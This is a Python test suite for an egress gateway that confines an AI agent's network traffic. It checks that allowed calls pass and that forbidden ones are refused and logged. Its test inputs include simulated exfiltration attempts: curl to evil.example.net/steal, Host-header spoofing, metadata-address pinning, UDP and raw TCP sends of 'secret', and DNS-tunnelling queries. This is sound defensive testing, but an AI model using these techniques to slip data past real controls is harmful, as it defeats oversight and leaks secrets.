"""The `tun` mode: whatever the agent sends is judged, or refused with an entry; nothing else leaves."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Any

import pytest

from addons.repeats import DESTINATIONS
from tests.lab import network as networks
from tests.lab import tun
from tests.lab.programs import PROBE, QUIC
from tests.lab.refusals import assert_refused
from tests.lab.tun import CREW, NAME_SERVER, ONLY_BY_DNS, PING, PUBLIC6, datagrams

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.lab.tun import TunLab

pytestmark = pytest.mark.lab

A, TXT = 1, 16
REFUSED = 5
DTLS_HELLO = bytes.fromhex("16fefd0000000000000000003001000024") + b"\0" * 80
NTP = b"\x23" + b"\0" * 47
FLOOD = 2000


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TunLab]:
    """Aegis at the other end of the agent's only device, or a skip with its reason."""
    if reason := tun.obstacle():
        pytest.skip(reason)
    with tun.running(tmp_path_factory.mktemp("tun")) as lab:
        yield lab


def query(name: str, kind: int) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def last_refusal(lab: TunLab) -> dict[str, Any]:
    return lab.refusals()[-1]


@pytest.mark.parametrize("url", ["https://api.example.com/hello", "http://api.example.com/hello"])
def test_an_allowed_call_reaches_the_service_and_names_the_agent_by_its_source(lab: TunLab, url: str) -> None:
    answer = lab.curl(url)
    assert answer.status == 200, answer
    assert lab.arrivals()[-1]["path"] == "/hello"
    allowed = [e["fields"] for e in lab.entries() if e["fields"].get("verdict") == "allow"][-1]
    assert (allowed["agent"], allowed["identified_by"]) == (CREW, "source-address")


@pytest.mark.parametrize("scheme", ["http", "https"])
@pytest.mark.parametrize(
    ("url", "rule"),
    [
        ("evil.example.net/steal", "egress.domain"),
        ("api.example.com/admin/users", "policy.path"),
        ("internal.example.com/", "egress.private-address"),
    ],
)
def test_a_forbidden_call_is_refused_with_its_reason_and_reaches_nothing(
    lab: TunLab, scheme: str, url: str, rule: str
) -> None:
    with lab.nothing_arrives(), lab.no_packet_arrives(), lab.one_refusal(rule):
        answer = lab.curl(f"{scheme}://{url}")
    assert_refused(lab, answer, rule)


@pytest.mark.parametrize("address", [networks.EVIL, networks.METADATA, f"[{PUBLIC6}]"])
@pytest.mark.parametrize(("scheme", "port"), [("http", 80), ("https", 443)])
def test_an_address_of_the_agents_choice_does_not_decide_where_an_allowed_name_leads(
    lab: TunLab, scheme: str, port: int, address: str
) -> None:
    answer = lab.curl(f"{scheme}://api.example.com/pinned", "--resolve", f"api.example.com:{port}:{address}")
    assert answer.status == 200, answer
    assert answer.json()["address"] == networks.API


def test_an_allowed_address_with_a_forbidden_host_is_judged_by_the_host(lab: TunLab) -> None:
    with lab.nothing_arrives(), lab.one_refusal("egress.domain"):
        answer = lab.curl("http://api.example.com/", "-H", "Host: evil.example.net")
    assert_refused(lab, answer, "egress.domain")
    with lab.nothing_arrives(), lab.one_refusal("names.mismatch"):
        answer = lab.curl("https://api.example.com/", "-H", "Host: evil.example.net")
    assert_refused(lab, answer, "names.mismatch", status=421)


@pytest.mark.parametrize(
    ("address", "port", "content"),
    [
        (networks.API, 9000, b"secret" * 100),
        (networks.API, 9001, b""),
        (networks.API, 4433, DTLS_HELLO),
        (networks.API, 123, NTP),
        ("93.184.216.255", 137, b"to everybody"),
        (networks.METADATA, 9000, b"secret"),
        (PUBLIC6, 9000, b"secret"),
    ],
    ids=["plain", "empty", "dtls", "ntp", "broadcast", "metadata", "ipv6"],
)
def test_a_datagram_goes_nowhere_and_leaves_an_entry(
    lab: TunLab, address: str, port: int, content: bytes
) -> None:
    with lab.nothing_arrives(), lab.no_packet_arrives(), lab.one_refusal("protocol.udp"):
        assert datagrams(lab, (address, port, content)) == [None]
    entry = last_refusal(lab)
    assert (entry["agent"], entry["host"], entry["port"]) == (CREW, address, port)


def test_a_quic_handshake_goes_nowhere_and_leaves_an_entry(lab: TunLab, python: str) -> None:
    with lab.nothing_arrives(), lab.no_packet_arrives(), lab.one_refusal("protocol.quic"):
        done = lab.agent(python, "-c", QUIC, networks.API)
    assert done.returncode == 0, done.stderr
    assert "connected" not in done.stdout
    entry = last_refusal(lab)
    assert (entry["agent"], entry["host"], entry["port"]) == (CREW, networks.API, 443)


def test_names_are_answered_by_the_gateway_whatever_server_is_asked(lab: TunLab) -> None:
    with lab.nothing_arrives(), lab.no_packet_arrives():
        for server in (NAME_SERVER, networks.API, PUBLIC6):
            (answer,) = datagrams(lab, (server, 53, query("api.example.com", A)))
            assert answer is not None
            assert answer.endswith(bytes(map(int, networks.API.split("."))))
    assert lab.curl(f"https://{ONLY_BY_DNS}/by-dns").status == 200


@pytest.mark.parametrize(
    ("name", "kind", "rule"),
    [("c2VjcmV0.evil.example.net", A, "egress.domain"), ("api.example.com", TXT, "dns.query-type")],
)
def test_a_query_that_could_carry_data_is_refused_with_an_entry(
    lab: TunLab, name: str, kind: int, rule: str
) -> None:
    with lab.nothing_arrives(), lab.no_packet_arrives(), lab.one_refusal(rule):
        (answer,) = datagrams(lab, (networks.API, 53, query(name, kind)))
    assert answer is not None
    assert answer[3] & 0xF == REFUSED
    assert last_refusal(lab)["host"] == name


def test_what_is_sent_to_the_dns_port_and_is_not_dns_goes_nowhere_and_leaves_an_entry(
    lab: TunLab, python: str
) -> None:
    with lab.nothing_arrives(), lab.no_packet_arrives(), lab.one_refusal("protocol.malformed"):
        assert datagrams(lab, (networks.API, 53, b"secret")) == [None]
    with lab.nothing_arrives(), lab.no_packet_arrives(), lab.one_refusal("protocol.malformed"):
        done = lab.agent(python, "-c", PROBE, networks.EVIL, "53", r"GET / HTTP/1.1\r\n\r\n")
    assert done.stdout == '""\n'


@pytest.mark.parametrize(("port", "text"), [(22, r"SSH-2.0-OpenSSH_9.6\r\n"), (9000, r"\x00\x01secret")])
def test_raw_tcp_goes_nowhere_and_leaves_an_entry(lab: TunLab, python: str, port: int, text: str) -> None:
    with lab.nothing_arrives(), lab.no_packet_arrives(), lab.one_refusal("protocol.not-http"):
        done = lab.agent(python, "-c", PROBE, networks.API, str(port), text)
    assert "SSH-2.0" not in done.stdout
    entry = last_refusal(lab)
    assert (entry["agent"], entry["host"], entry["port"]) == (CREW, networks.API, port)


def test_a_ping_is_answered_by_the_gateway_itself_and_other_protocols_end_there(
    lab: TunLab, python: str
) -> None:
    with lab.nothing_arrives(), lab.no_packet_arrives():
        done = lab.agent(python, "-c", PING, networks.API)
    assert done.stdout == "secret\n", done.stderr


def test_a_flood_of_datagrams_is_counted_and_the_gateway_goes_on(lab: TunLab) -> None:
    before = len(lab.refusals())
    flood = [(networks.API, 1024 + n % 1000, b"x" * 100) for n in range(FLOOD)]
    with lab.nothing_arrives():
        datagrams(lab, *flood, new_ports=True)
    assert lab.curl("https://api.example.com/after-the-flood").status == 200
    lab.stop_gateway()  # tells what has only been counted
    entries = lab.refusals()[before:]
    lab.start_gateway()
    assert len(entries) <= 4 * DESTINATIONS + 4  # two windows at most
    assert 0.9 * FLOOD < sum(entry.get("repeats", 1) for entry in entries) <= FLOOD
    assert {entry["rule"] for entry in entries} <= {"protocol.udp", "engine.overload"}


def test_with_the_gateway_the_device_is_gone_and_with_it_every_way_out(lab: TunLab, python: str) -> None:
    assert lab.curl("https://api.example.com/last-words").status == 200
    lab.kill_gateway()
    try:
        with lab.no_packet_arrives():
            assert not lab.has_device(lab.network.agent)
            assert lab.curl("https://api.example.com/").is_nothing
            assert lab.curl(f"http://{networks.API}/").is_nothing
            assert "Error" in lab.agent(python, "-c", PROBE, networks.API, "22", "hello").stdout
        assert any(entry["fields"].get("path") == "/last-words" for entry in lab.entries())
        assert "INTACT" in lab.aegis("verify-ledger").stdout
    finally:
        lab.start_gateway()
    assert lab.curl("https://api.example.com/again").status == 200


def test_without_aegis_datagrams_arrive_so_a_hole_would_be_noticed(lab: TunLab) -> None:
    lab.kill_gateway()
    lab.start_bare_gateway()
    before = len(lab.arrivals())
    try:
        datagrams(lab, (networks.API, 9000, b"secret"))
        assert lab.arrivals()[before:] == [
            {"kind": "udp", "port": 9000, "size": 6, "peer": networks.GATEWAY_OUTSIDE}
        ]
    finally:
        lab.kill_gateway()
        lab.start_gateway()
